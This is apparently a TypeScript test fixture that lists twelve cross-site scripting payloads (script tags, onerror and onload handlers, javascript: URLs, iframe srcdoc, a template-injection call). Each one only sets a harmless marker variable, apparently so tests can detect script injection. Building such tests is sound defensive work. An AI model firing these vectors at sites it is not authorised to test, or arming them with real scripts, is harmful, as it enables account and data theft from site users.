/** Twelve ways to get a script into a page, each short enough for every text field. */
export const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '</script><script>window.__xss=2</script>',
  '"><img src=x onerror=window.__xss=3>',
  "'><svg onload=window.__xss=4>",
  '<svg/onload=window.__xss=5>',
  'javascript:window.__xss=6//',
  '<iframe srcdoc="<script>top.__xss=7</script>">',
  '<a href="javascript:__xss=8" autofocus>x</a>',
  '</title><body onload=window.__xss=9>',
  '<!--</style><img src onerror=__xss=10>-->',
  '{{constructor.constructor("__xss=11")()}}',
  '&lt;script&gt;window.__xss=12&lt;/script&gt;',
] as const;
